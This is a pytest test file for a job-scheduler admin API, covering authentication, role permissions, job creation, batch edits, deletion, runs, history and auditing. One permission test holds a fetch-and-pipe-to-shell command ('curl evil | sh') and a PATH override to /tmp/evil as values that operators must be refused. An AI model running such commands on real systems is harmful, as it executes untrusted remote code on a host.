"""The job routes of the admin API over a real dispatcher: reading, editing, running, refusals."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest

from jobcontrol.errors import ECHO_MAX
from jobcontrol.service.audit import list_entries
from tests.api.conftest import Api
from tests.integration.helpers import box, task

pytestmark = pytest.mark.timeout(60)

V1 = "/api/v1"


def names(jobs: list[dict[str, Any]]) -> list[str]:
    return [j["name"] for j in jobs]


# ---------------------------------------------------------------- auth


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/tree"),
        ("GET", "/jobs/Top"),
        ("POST", "/jobs"),
        ("PATCH", "/jobs"),
        ("POST", "/jobs/delete"),
        ("POST", "/jobs/activate"),
        ("POST", "/jobs/Top/run"),
        ("GET", "/jobs/Top/runs"),
    ],
)
def test_every_route_needs_a_valid_token(api: Api, method: str, path: str) -> None:
    api.jc.create(box("Top"))
    before = api.jc.dump()
    missing = api.client.request(method, V1 + path, json={})
    assert missing.status_code == 401
    assert "bearer token" in missing.json()["detail"]
    bad = api.client.request(
        method, V1 + path, json={}, headers={"Authorization": "Bearer jc_nope"}
    )
    assert bad.status_code == 401
    assert bad.json()["detail"] == "unknown or revoked token"
    assert api.jc.dump() == before


def test_a_viewer_cannot_create_nor_an_operator_delete(api: Api) -> None:
    api.jc.create(box("Top"))
    before = api.jc.dump()
    r = api.client.post(
        f"{V1}/jobs", json={"name": "X", "kind": "box"}, headers=api.headers("viewer")
    )
    assert r.status_code == 403
    assert "viewer" in r.json()["detail"]
    r = api.client.post(
        f"{V1}/jobs/delete", json={"jobs": ["Top"]}, headers=api.headers("operator")
    )
    assert r.status_code == 403
    assert "operator" in r.json()["detail"]
    assert api.jc.dump() == before


# ---------------------------------------------------------------- reading


def test_tree_lists_every_job_in_tree_order_with_live_state(api: Api) -> None:
    api.jc.create(box("Top", timer="every 1h", active=True), task("t1", "true", "Top"))
    r = api.client.get(f"{V1}/tree", headers=api.headers("viewer"))
    assert r.status_code == 200
    body = r.json()
    assert body["seq"] == api.ctx.eventlog.last_seq
    assert names(body["jobs"]) == ["Top", "t1"]
    top, t1 = body["jobs"]
    assert (top["state"], top["depth"], top["timer"], top["active"]) == (
        "idle",
        0,
        "every 1h",
        True,
    )
    assert (t1["parent"], t1["depth"], t1["command"]) == (top["id"], 1, "true")
    assert top["next_runs"] is not None


def test_one_job_by_name_or_id_with_its_stored_fields(api: Api) -> None:
    ids = api.jc.create(
        box("Nightly: ETL jobs"),
        task(
            "load",
            "echo hi",
            "Nightly: ETL jobs",
            description="loads",
            queue="etl",
            priority=5,
            timeout="90s",
            env={"A": "1"},
        ),
    )
    by_name = api.client.get(
        f"{V1}/jobs/{quote('Nightly: ETL jobs', safe='')}", headers=api.headers("viewer")
    )
    assert by_name.status_code == 200
    assert by_name.json()["id"] == ids["Nightly: ETL jobs"]
    assert by_name.json()["kind"] == "box"
    load = api.client.get(f"{V1}/jobs/{ids['load']}", headers=api.headers("viewer")).json()
    assert load["name"] == "load"
    assert (load["description"], load["queue"], load["priority"]) == ("loads", "etl", 5)
    assert (load["timeout"], load["env"], load["state"]) == (90.0, {"A": "********"}, "idle")
    as_admin = api.client.get(f"{V1}/jobs/{ids['load']}", headers=api.headers("admin")).json()
    assert as_admin["env"] == {"A": "1"}  # only who may change env values reads them
    assert load["updated_by"] == "tester"
    assert load["version"] == 1


def test_a_path_of_digits_is_a_name_first_then_an_id(api: Api) -> None:
    ids = api.jc.create(box("Top"), box("2024"))
    h = api.headers("viewer")
    named = api.client.get(f"{V1}/jobs/2024", headers=h).json()
    assert named["id"] == ids["2024"]
    by_id = api.client.get(f"{V1}/jobs/{ids['Top']}", headers=h).json()
    assert by_id["name"] == "Top"


def test_a_name_has_one_spelling_whichever_way_its_accents_were_typed(api: Api) -> None:
    composed, decomposed = "caf\u00e9", "cafe\u0301"  # "café": é as one character, or two
    h = api.headers()
    r = api.client.post(f"{V1}/jobs", json={"name": decomposed, "kind": "box"}, headers=h)
    assert r.status_code == 201, r.text
    assert r.json()["name"] == composed  # stored composed (NFC)
    for spelling in (composed, decomposed):
        found = api.client.get(f"{V1}/jobs/{quote(spelling)}", headers=h)
        assert found.status_code == 200, spelling
        assert found.json()["name"] == composed
    # The other spelling is the same name: taken, not a second job.
    again = api.client.post(f"{V1}/jobs", json={"name": composed, "kind": "box"}, headers=h)
    assert again.status_code == 422, again.text
    assert "a job with this name already exists" in again.json()["message"]
    assert [j["name"] for j in api.client.get(f"{V1}/tree", headers=h).json()["jobs"]] == [composed]
    # A definition file's names (and parents) too.
    tree = "jobs:\n  - name: th\u00e9\n    parent: " + decomposed + "\n    command: 'true'\n"
    loaded = api.client.post(
        f"{V1}/definitions", json={"text": tree, "source": "t.yaml"}, headers=h
    )
    assert loaded.status_code == 200, loaded.text
    names = [j["name"] for j in api.client.get(f"{V1}/tree", headers=h).json()["jobs"]]
    assert names == [composed, "th\u00e9"]


def test_unknown_jobs_and_runs_are_404(api: Api) -> None:
    h = api.headers("viewer")
    for path in ("/jobs/nope", "/jobs/999", "/jobs/nope/runs"):
        r = api.client.get(V1 + path, headers=h)
        assert r.status_code == 404, path
        assert "no such job" in r.json()["message"]
    h = api.headers("operator")
    assert api.client.post(f"{V1}/jobs/nope/run", headers=h).status_code == 404
    r = api.client.post(f"{V1}/jobs/activate", json={"jobs": ["nope"]}, headers=h)
    assert r.status_code == 404
    assert r.json()["job"] == "nope"


def test_a_name_with_a_line_break_is_no_such_job_on_every_route(api: Api) -> None:
    """The path routes matched up to a line break: ``a%0Ab`` was the router's bare "Not
    Found", and ``flaky%0A`` (a trailing one) was taken for ``flaky``."""
    api.jc.create(task("flaky", "true", active=True))
    for role, method, suffix in (
        ("viewer", "GET", ""),
        ("viewer", "GET", "/runs"),
        ("operator", "POST", "/run"),
        ("operator", "POST", "/kill"),
        ("operator", "POST", "/restart"),
    ):
        for name in ("flaky\n", "a\nb"):
            r = api.client.request(
                method, f"{V1}/jobs/{quote(name, safe='')}{suffix}", headers=api.headers(role)
            )
            assert r.status_code == 404, (method, suffix, name, r.text)
            assert r.json()["message"] == f"job {name!r}: no such job", (suffix, r.text)
    assert api.jc.runs("flaky") == []  # nothing ran


# ---------------------------------------------------------------- creating


def test_admin_creates_a_box_and_a_task_under_it(api: Api) -> None:
    h = api.headers("admin")
    r = api.client.post(
        f"{V1}/jobs",
        json={"name": "Top", "kind": "box", "timer": "every 10m", "on_error": "abort"},
        headers=h,
    )
    assert r.status_code == 201, r.text
    top = r.json()
    assert (top["name"], top["kind"], top["on_error"], top["version"]) == (
        "Top",
        "box",
        "abort",
        1,
    )
    r = api.client.post(
        f"{V1}/jobs",
        json={
            "name": "t",
            "kind": "task",
            "parent": top["id"],
            "command": "true",
            "timeout": 30,
            "env": {"X": "y"},
        },
        headers=h,
    )
    assert r.status_code == 201, r.text
    assert (r.json()["parent"], r.json()["timeout"]) == (top["id"], 30.0)
    stored = api.jc.job("t")
    assert stored.parent_id == top["id"]
    assert stored.updated_by == "admin-user"
    api.jc.assert_tree_matches_db()


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"name": "A", "kind": "box", "colour": "red"}, "colour"),
        ({"name": "A", "kind": "folder"}, "kind"),
        ({"name": "A", "kind": "box", "active": "yes"}, "active"),
        ({"name": "A", "kind": "box", "priority": "5"}, "priority"),
        ({"name": "A", "kind": "task", "command": "true", "retries": "2"}, "retries"),
        ({"name": "A" * 4097, "kind": "box"}, "name"),  # past any text (the engine: 128)
        ({"kind": "box"}, "name"),
        ({"name": "A", "kind": "box", "description": "a\x00b"}, "description"),
        ({"name": "A", "kind": "box", "parent": 2**63}, "parent"),
    ],
)
def test_bad_create_bodies_are_422_naming_the_field(
    api: Api, body: dict[str, Any], field: str
) -> None:
    before = api.jc.dump()
    r = api.client.post(f"{V1}/jobs", json=body, headers=api.headers("admin"))
    assert r.status_code == 422
    assert field in {str(part) for err in r.json()["detail"] for part in err["loc"]}
    assert api.jc.dump() == before


def test_unknown_fields_are_422_naming_each_and_the_fields_a_job_has(api: Api) -> None:
    api.jc.create(task("a", "true"))
    before = api.jc.dump()
    r = api.client.patch(
        f"{V1}/jobs",
        json={"changes": [{"job": "a", "fields": {"timout": "5s", "comand": "false"}}]},
        headers=api.headers("admin"),
    )
    assert r.status_code == 422, r.text
    message = r.json()["message"]
    assert "changes.0.fields.timout: unknown field" in message, message
    assert "changes.0.fields.comand: unknown field" in message, message
    # The fields a job has, once, whatever the number of unknown ones.
    assert message.count("allowed: ") == 1, message
    allowed = message.partition("allowed: ")[2].split(", ")
    assert {"command", "timeout", "timer", "active"} <= set(allowed), message
    assert api.jc.dump() == before
    # A huge unknown name is cut in the answer, the fields a job has are not.
    r = api.client.post(
        f"{V1}/jobs", json={"name": "A", "kind": "task", "K" * 100_000: 1}, headers=api.headers()
    )
    assert r.status_code == 422, r.text[:300]
    assert len(r.content) < 5 * ECHO_MAX, len(r.content)
    assert "more characters): unknown field" in r.json()["message"], r.text
    assert "timer" in r.json()["message"].partition("allowed: ")[2], r.text
    assert api.jc.dump() == before


def test_an_invalid_schedule_is_refused_by_the_engine_naming_job_and_position(api: Api) -> None:
    before = api.jc.dump()
    r = api.client.post(
        f"{V1}/jobs",
        json={"name": "A", "kind": "box", "timer": "evry 10s"},
        headers=api.headers("admin"),
    )
    assert r.status_code == 422
    assert r.json()["job"] == "A"
    assert "position 0" in r.json()["message"]
    assert api.jc.dump() == before


def test_malformed_json_and_oversize_bodies_are_refused(api: Api) -> None:
    h = {**api.headers("admin"), "Content-Type": "application/json"}
    r = api.client.post(f"{V1}/jobs", content=b'{"name": ', headers=h)
    assert r.status_code == 422
    huge = b'{"jobs": ["' + b"x" * (11 * 1024 * 1024) + b'"]}'
    r = api.client.post(f"{V1}/jobs/delete", content=huge, headers=h)
    assert r.status_code == 413


# ---------------------------------------------------------------- batch modify


def test_a_batch_modify_is_one_transaction_and_answers_the_new_views(api: Api) -> None:
    ids = api.jc.create(box("Top"), task("a", "true", "Top"), task("b", "true", "Top"))
    reactions = api.jc.dispatcher.stats.reactions
    r = api.client.patch(
        f"{V1}/jobs",
        json={
            "changes": [
                {"job": "a", "version": 1, "fields": {"timer": "every 5m", "priority": 3}},
                {"job": ids["b"], "version": None, "fields": {"description": "bee"}},
                {"job": "Top", "fields": {"timer": "daily 22:56", "active": True}},
            ]
        },
        headers=api.headers("admin"),
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert sorted(body["modified"]) == sorted(ids.values())
    assert {j["name"]: j["version"] for j in body["jobs"]} == {"a": 2, "b": 2, "Top": 2}
    assert api.jc.dispatcher.stats.reactions == reactions + 1
    assert api.jc.job("a").priority == 3
    assert api.jc.job("b").description == "bee"
    assert api.jc.job("Top").updated_by == "admin-user"
    api.jc.assert_tree_matches_db()


def test_a_stale_version_is_409_naming_the_job_and_nothing_is_written(api: Api) -> None:
    api.jc.create(box("Top"), task("a", "true", "Top"))
    api.jc.modify("a", description="moved on")  # version 2 now
    before = api.jc.dump()
    r = api.client.patch(
        f"{V1}/jobs",
        json={
            "changes": [
                {"job": "Top", "version": 1, "fields": {"description": "fine"}},
                {"job": "a", "version": 1, "fields": {"description": "stale"}},
            ]
        },
        headers=api.headers("admin"),
    )
    assert r.status_code == 409
    assert r.json()["job"] == "a"
    assert "version 2" in r.json()["message"]
    assert api.jc.dump() == before


def test_a_batch_that_names_a_job_twice_is_refused_as_such(api: Api) -> None:
    """Not as "changed by someone else": nobody else did. Nothing is written."""
    api.jc.create(box("Top"), task("a", "true", "Top"))
    before = api.jc.dump()
    version = api.jc.job("a").version
    r = api.client.patch(
        f"{V1}/jobs",
        json={
            "changes": [
                {"job": "a", "version": version, "fields": {"description": "one"}},
                {"job": api.jc.job("a").id, "version": version, "fields": {"priority": 3}},
            ]
        },
        headers=api.headers("admin"),
    )
    assert r.status_code == 422, r.text
    assert r.json()["job"] == "a"
    assert "named twice in one batch" in r.json()["message"]
    assert api.jc.dump() == before


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/jobs/a/run"),
        ("POST", "/jobs/a/kill"),
        ("POST", "/jobs/Top/restart"),
        ("POST", "/timers/pause"),
        ("POST", "/timers/resume"),
        ("POST", "/lanes/default/drain"),
        ("POST", "/lanes/default/resume"),
        ("DELETE", "/lanes/default"),
    ],
)
def test_a_request_that_takes_no_body_refuses_one_and_does_nothing(
    api: Api, method: str, path: str
) -> None:
    api.jc.create(box("Top", active=True), task("a", "true", "Top", active=True))
    before = api.jc.dump()
    r = api.client.request(
        method, f"{V1}{path}", json={"force": True}, headers=api.headers("admin")
    )
    assert r.status_code == 422, r.text
    assert r.json()["message"].startswith("body: this request takes no body"), r.json()
    assert api.jc.dump() == before
    assert api.jc.engine.status()["paused"] is False
    assert (
        api.client.get(f"{V1}/lanes", headers=api.headers("admin")).json()["lanes"][0]["state"]
        == "open"
    )


@pytest.mark.parametrize(
    "fields",
    [
        {"timer": "every 10 parsecs"},
        {"colour": "red"},
        {"active": "maybe"},
        {"on_error": "explode"},
        {"priority": 10_000_000},
        {"retries": -1},
        {"retries": "two"},
        {"retries": 1.5},
        {"cwd": "relative/dir"},  # every run would fail: refused when saved
        {"env": {"JOBCONTROL_JOB": "mine"}},  # Job Control's own: it would be dropped
        {"env": {"jobcontrol_run_id": "1"}},
    ],
)
def test_a_bad_change_refuses_the_whole_batch(api: Api, fields: dict[str, Any]) -> None:
    api.jc.create(box("Top"), task("a", "true", "Top"))
    before = api.jc.dump()
    r = api.client.patch(
        f"{V1}/jobs",
        json={
            "changes": [
                {"job": "Top", "fields": {"description": "fine"}},
                {"job": "a", "fields": fields},
            ]
        },
        headers=api.headers("admin"),
    )
    assert r.status_code == 422, r.text
    if "detail" not in r.json():  # the engine's refusal names the job
        assert r.json()["job"] == "a"
    assert api.jc.dump() == before


def test_an_operator_may_activate_through_patch_but_not_change_a_timer(api: Api) -> None:
    api.jc.create(box("Top"))
    h = api.headers("operator")
    r = api.client.patch(
        f"{V1}/jobs", json={"changes": [{"job": "Top", "fields": {"active": True}}]}, headers=h
    )
    assert r.status_code == 200, r.text
    assert api.jc.job("Top").active is True
    before = api.jc.dump()
    r = api.client.patch(
        f"{V1}/jobs",
        json={"changes": [{"job": "Top", "fields": {"active": False, "timer": "every 1h"}}]},
        headers=h,
    )
    assert r.status_code == 403
    assert "timer" in r.json()["detail"]
    assert api.jc.dump() == before


@pytest.mark.parametrize(
    ("role", "fields"),
    [
        ("operator", {"command": "curl evil | sh"}),
        ("operator", {"env": {"PATH": "/tmp/evil"}}),
        ("operator", {"cwd": "/tmp"}),
        ("viewer", {"active": False}),
        ("viewer", {"timer": "every 1s"}),
    ],
)
def test_a_refused_patch_is_audited_naming_user_jobs_and_fields(
    api: Api, role: str, fields: dict[str, Any]
) -> None:
    created = api.jc.create(box("Top", active=True), task("t1", "true", "Top", active=True))
    before = api.jc.dump()
    # One change by name, one by id (as the Qt client sends): both named in the trail.
    changes = [{"job": "Top", "fields": {"active": True}}, {"job": created["t1"], "fields": fields}]
    r = api.client.patch(f"{V1}/jobs", json={"changes": changes}, headers=api.headers(role))
    assert r.status_code == 403, r.text
    entries = list_entries(api.jc.store, user=f"{role}-user")
    assert [(e.operation, e.result, e.jobs) for e in entries] == [
        ("PATCH /api/v1/jobs", "refused", ["Top", "t1"])
    ]
    assert r.json()["message"] == entries[0].detail
    for field in fields:
        assert field in entries[0].detail
    # What it may not do, as the fields ask it: activating, or modifying beyond it.
    says = "activate or deactivate jobs" if set(fields) == {"active"} else "modify jobs or settings"
    assert f"which may not {says} (fields: " in entries[0].detail, entries[0].detail
    assert api.jc.dump() == before


def test_activating_200_jobs_is_one_batch_and_one_reaction(api: Api) -> None:
    api.jc.create(box("Top"), *(task(f"t{i}", "true", "Top") for i in range(200)))
    reactions = api.jc.dispatcher.stats.reactions
    jobs = [f"t{i}" for i in range(200)]
    r = api.client.post(f"{V1}/jobs/activate", json={"jobs": jobs}, headers=api.headers("operator"))
    assert r.status_code == 200, r.text
    assert len(r.json()["modified"]) == 200
    assert all(j["active"] for j in r.json()["jobs"])
    assert api.jc.dispatcher.stats.reactions == reactions + 1
    r = api.client.post(
        f"{V1}/jobs/deactivate", json={"jobs": jobs[:10]}, headers=api.headers("operator")
    )
    assert r.status_code == 200
    assert [api.jc.job(n).active for n in ("t0", "t9", "t10")] == [False, False, True]
    api.jc.assert_tree_matches_db()


def test_on_error_and_box_type_are_admin_batches(api: Api) -> None:
    api.jc.create(box("A"), box("B"), task("t", "true", "A"))
    body = {"jobs": ["A", "B"], "on_error": "abort"}
    assert (
        api.client.post(f"{V1}/jobs/on-error", json=body, headers=api.headers("operator"))
    ).status_code == 403
    r = api.client.post(f"{V1}/jobs/on-error", json=body, headers=api.headers("admin"))
    assert r.status_code == 200, r.text
    assert {j["on_error"] for j in r.json()["jobs"]} == {"abort"}
    r = api.client.post(
        f"{V1}/jobs/box-type",
        json={"jobs": ["A", "B"], "box_type": "timed"},
        headers=api.headers("admin"),
    )
    assert r.status_code == 200
    assert {j["box_type"] for j in r.json()["jobs"]} == {"timed"}
    before = api.jc.dump()
    r = api.client.post(
        f"{V1}/jobs/box-type",
        json={"jobs": ["A", "t"], "box_type": "sequence"},
        headers=api.headers("admin"),
    )
    assert r.status_code == 422
    assert r.json()["job"] == "t"
    assert api.jc.dump() == before


# ---------------------------------------------------------------- deleting


def test_delete_takes_sub_trees_parents_first(api: Api) -> None:
    ids = api.jc.create(box("Top"), box("Sub", "Top"), task("t", "true", "Sub"), box("Other"))
    r = api.client.post(
        f"{V1}/jobs/delete", json={"jobs": ["t", "Top"]}, headers=api.headers("admin")
    )
    assert r.status_code == 200, r.text
    assert r.json()["deleted"] == [ids["Top"]]  # 't' went with it
    assert r.json()["deleted_jobs"] == 3  # Top, Sub and t
    tree = api.client.get(f"{V1}/tree", headers=api.headers("viewer")).json()
    assert names(tree["jobs"]) == ["Other"]
    api.jc.assert_tree_matches_db()


# ---------------------------------------------------------------- running


def test_run_kill_and_history(api: Api) -> None:
    api.jc.create(box("Top"), task("sleeper", "sleep 1000", "Top", active=True))
    h = api.headers("operator")
    mark = api.jc.rec.mark()
    r = api.client.post(f"{V1}/jobs/Top/run", headers=h)
    assert r.status_code == 202, r.text
    root = r.json()["run_id"]
    task_run = api.jc.rec.wait_for(
        lambda s: s.name == "run_started" and s.run["job_name"] == "sleeper", since=mark
    ).run["id"]
    api.jc.wait_task_process(task_run)
    live = api.client.get(f"{V1}/jobs/sleeper", headers=h).json()
    assert (live["state"], live["run_id"]) == ("running", task_run)

    busy = api.client.post(f"{V1}/jobs/Top/run", headers=h)
    assert busy.status_code == 409
    r = api.client.post(f"{V1}/jobs/sleeper/kill", headers=h)
    assert r.status_code == 200, r.text
    assert r.json()["run_id"] == root
    assert api.jc.rec.run_finished("Top", since=mark)["exit_status"] == 255

    runs = api.client.get(f"{V1}/jobs/sleeper/runs", headers=api.headers("viewer")).json()
    assert [(x["id"], x["state"], x["exit_status"]) for x in runs["runs"]] == [
        (task_run, "killed", 255)
    ]
    assert runs["next"] is None
    assert runs["runs"][0]["requested_by"] == "operator-user"


def test_history_is_newest_first_and_paged(api: Api) -> None:
    api.jc.create(task("quick", "true"))
    run_ids = []
    for _ in range(5):
        mark = api.jc.rec.mark()
        run_ids.append(api.jc.run_now("quick"))
        api.jc.rec.run_finished("quick", since=mark)
    h = api.headers("viewer")
    page1 = api.client.get(f"{V1}/jobs/quick/runs?limit=2", headers=h).json()
    assert [x["id"] for x in page1["runs"]] == run_ids[:-3:-1]
    page2 = api.client.get(
        f"{V1}/jobs/quick/runs", params={"limit": 2, "before": page1["next"]}, headers=h
    ).json()
    assert [x["id"] for x in page2["runs"]] == run_ids[2:0:-1]
    page3 = api.client.get(
        f"{V1}/jobs/quick/runs", params={"limit": 2, "before": page2["next"]}, headers=h
    ).json()
    assert [x["id"] for x in page3["runs"]] == [run_ids[0]]
    assert page3["next"] is None
    assert api.client.get(f"{V1}/jobs/quick/runs?limit=0", headers=h).status_code == 422


def test_restart_is_top_level_only(api: Api) -> None:
    api.jc.create(box("Top", timer="every 1h", active=True), task("t", "true", "Top"))
    h = api.headers("operator")
    r = api.client.post(f"{V1}/jobs/Top/restart", headers=h)
    assert r.status_code == 200, r.text
    assert r.json()["next_runs"] == api.jc.job("Top").next_runs.isoformat()
    assert (r.json()["armed"], r.json()["reason"]) == (True, None)
    r = api.client.post(f"{V1}/jobs/t/restart", headers=h)
    assert r.status_code == 422
    assert "not a top-level job" in r.json()["message"]


def test_restart_of_an_inactive_job_says_nothing_is_armed(api: Api) -> None:
    api.jc.create(box("Idle", timer="every 1h"), task("t", "true", "Idle", active=True))
    assert api.jc.job("Idle").next_runs is not None  # shown, as in Inq, but not armed
    r = api.client.post(f"{V1}/jobs/Idle/restart", headers=api.headers("operator"))
    assert r.status_code == 200, r.text
    assert r.json() == {
        "next_runs": None,
        "armed": False,
        "reason": "it is inactive; activate it to schedule it",
        "held": False,
    }
    assert api.jc.job("Idle").next_runs is None
    assert api.jc.armed_at("Idle") is None


def test_restart_while_the_timers_are_paused_says_it_waits_for_resume(api: Api) -> None:
    api.jc.create(box("Hourly", timer="every 1h", active=True), task("t", "true", "Hourly"))
    api.jc.dispatcher.pause_timers()
    r = api.client.post(f"{V1}/jobs/Hourly/restart", headers=api.headers("operator"))
    assert r.status_code == 200, r.text
    reply = r.json()
    assert (reply["armed"], reply["held"]) == (True, True)
    assert api.jc.armed_at("Hourly") is None  # nothing fires while paused
    (entry,) = list_entries(api.jc.store, limit=1, user="operator-user")
    assert entry.operation == "job.restart"
    assert (entry.detail or "").endswith("(timers paused)"), entry.detail
    api.jc.dispatcher.resume_timers()
    r = api.client.post(f"{V1}/jobs/Hourly/restart", headers=api.headers("operator"))
    assert (r.json()["armed"], r.json()["held"]) == (True, False)


def test_every_change_is_audited_under_the_users_name(api: Api) -> None:
    api.jc.create(box("Top"))
    api.client.post(f"{V1}/jobs/activate", json={"jobs": ["Top"]}, headers=api.headers("operator"))
    api.client.post(f"{V1}/jobs/Top/run", headers=api.headers("operator"))
    entries = list_entries(api.jc.store, limit=10, user="operator-user")
    assert {e.operation for e in entries} >= {"jobs.modify", "job.run"}


# ---------------------------------------------------------------- the document


def test_the_openapi_document_lists_every_route(api: Api) -> None:
    assert api.client.get(f"{V1}/openapi.json").status_code == 401  # only /healthz is open
    doc = api.client.get(f"{V1}/openapi.json", headers=api.headers("viewer")).json()
    expected = {
        "/api/v1/tree": {"get"},
        "/api/v1/jobs": {"post", "patch"},
        "/api/v1/jobs/delete": {"post"},
        "/api/v1/jobs/activate": {"post"},
        "/api/v1/jobs/deactivate": {"post"},
        "/api/v1/jobs/on-error": {"post"},
        "/api/v1/jobs/box-type": {"post"},
        "/api/v1/jobs/{job}": {"get"},
        "/api/v1/jobs/{job}/run": {"post"},
        "/api/v1/jobs/{job}/kill": {"post"},
        "/api/v1/jobs/{job}/restart": {"post"},
        "/api/v1/jobs/{job}/runs": {"get"},
        "/api/v1/runs/{run_id}": {"get"},
        "/api/v1/runs/{run_id}/log": {"get"},
    }
    for path, methods in expected.items():
        assert path in doc["paths"], path
        assert methods <= set(doc["paths"][path]), path


def test_every_error_answer_has_one_shape_and_refused_changes_are_audited(api: Api) -> None:
    answers = [
        api.client.get("/api/v1/tree"),  # 401
        api.client.post("/api/v1/jobs", headers=api.headers("viewer"), json={"name": "x"}),  # 403
        api.client.get("/api/v1/jobs/nope", headers=api.headers("viewer")),  # 404
        api.client.post(
            "/api/v1/jobs", headers=api.headers(), json={"name": "x", "kind": "task", "bogus": 1}
        ),  # 422
    ]
    assert [a.status_code for a in answers] == [401, 403, 404, 422]
    for answer in answers:
        body = answer.json()
        assert body["error"]
        assert body["message"]
    assert "bogus" in answers[3].json()["message"]
    refused = list_entries(api.jc.store, user="viewer-user")
    assert [(e.operation, e.result) for e in refused] == [("POST /api/v1/jobs", "refused")]
    assert "viewer" in refused[0].detail


def test_a_malformed_change_is_refused_and_audited_as_such(api: Api) -> None:
    r = api.client.post(
        "/api/v1/jobs", headers=api.headers(), json={"name": "x", "kind": "task", "colour": "red"}
    )
    assert r.status_code == 422
    entries = list_entries(api.jc.store, user="admin-user")
    assert [(e.operation, e.result) for e in entries] == [("POST /api/v1/jobs", "refused")]
    assert "colour" in entries[0].detail
    assert api.client.get("/api/v1/tree", headers=api.headers()).json()["jobs"] == []


def test_a_client_that_names_a_job_by_id_never_reaches_a_job_named_that_number(api: Api) -> None:
    """The admin client names jobs by id. A job named "3" beside the job of id 3: with
    ``?by=id`` (the client's ``Client``) each request reaches the job of id 3, never the
    one named "3"; without it a path is a name first, as the CLI's."""
    ids = api.jc.create(box("Top"), box("Other"), box("Third"))
    target = ids["Third"]
    named = api.jc.create(task(str(target), "echo I am named after an id", active=True))
    h = api.headers("operator")
    by_id = api.client.get(f"{V1}/jobs/{target}", params={"by": "id"}, headers=h).json()
    assert (by_id["id"], by_id["name"]) == (target, "Third")
    by_name = api.client.get(f"{V1}/jobs/{target}", headers=h).json()
    assert by_name["id"] == named[str(target)]
    # A run asked by id runs the job of that id.
    run = api.client.post(f"{V1}/jobs/{target}/run", params={"by": "id"}, headers=h)
    assert run.status_code == 202, run.text
    runs = api.client.get(f"{V1}/jobs/{target}/runs", params={"by": "id"}, headers=h).json()
    assert [r["id"] for r in runs["runs"]] == [run.json()["run_id"]]
    assert [r["job_name"] for r in runs["runs"]] == ["Third"]
    # ?by=id takes ids only.
    bad = api.client.get(f"{V1}/jobs/Top", params={"by": "id"}, headers=h)
    assert bad.status_code == 422
    assert "?by=id needs a job id" in bad.json()["message"]


def test_dot_names_are_refused_as_a_url_path_cannot_carry_them(api: Api) -> None:
    h = api.headers("admin")
    before = api.client.get(f"{V1}/tree", headers=h).json()["jobs"]
    for name in (".", ".."):
        r = api.client.post(f"{V1}/jobs", json={"name": name, "kind": "box"}, headers=h)
        assert r.status_code == 422, r.text
        assert "must not be '.' or '..'" in r.json()["message"]
    assert api.client.get(f"{V1}/tree", headers=h).json()["jobs"] == before


def test_a_job_that_never_ran_has_no_exit_status_until_it_runs(api: Api) -> None:
    """``show`` said ``exit_status: 0`` for a job that never ran, as if it had succeeded."""
    api.jc.create(task("fresh", "exit 4"))
    before = api.client.get(f"{V1}/jobs/fresh", headers=api.headers("viewer")).json()
    assert (before["last_ran"], before["exit_status"]) == (None, None)
    (listed,) = api.client.get(f"{V1}/tree", headers=api.headers("viewer")).json()["jobs"]
    assert listed["exit_status"] is None
    mark = api.jc.rec.mark()
    api.client.post(f"{V1}/jobs/fresh/run", headers=api.headers("operator"))
    api.jc.rec.run_finished("fresh", since=mark)
    after = api.client.get(f"{V1}/jobs/fresh", headers=api.headers("viewer")).json()
    assert after["exit_status"] == 4


def test_an_empty_or_over_long_name_is_refused_naming_the_job_and_the_rule(api: Api) -> None:
    """`set q1 name=` said "name: String should have at least 1 character", the
    validation library's words; the engine's rule names the job and says what a name
    must be, for a new job and a rename alike, and nothing changes."""
    api.jc.create(task("q1", "true"))
    h = api.headers("admin")
    before = api.client.get(f"{V1}/tree", headers=h).json()["jobs"]
    for name, said in (
        ("", "the name must not be empty"),
        ("x" * 200, "the name must be 1 to 128 characters"),
        (" q2", "without leading or trailing spaces"),
    ):
        change = {"changes": [{"job": "q1", "fields": {"name": name}}]}
        renamed = api.client.patch(f"{V1}/jobs", json=change, headers=h)
        assert renamed.status_code == 422, renamed.text
        assert said in renamed.json()["message"], renamed.text
        assert "q1" in renamed.json()["message"], renamed.text
        made = api.client.post(f"{V1}/jobs", json={"name": name, "kind": "task"}, headers=h)
        assert made.status_code == 422, made.text
        assert said in made.json()["message"], made.text
        assert "String should" not in renamed.text + made.text
    assert api.client.get(f"{V1}/tree", headers=h).json()["jobs"] == before
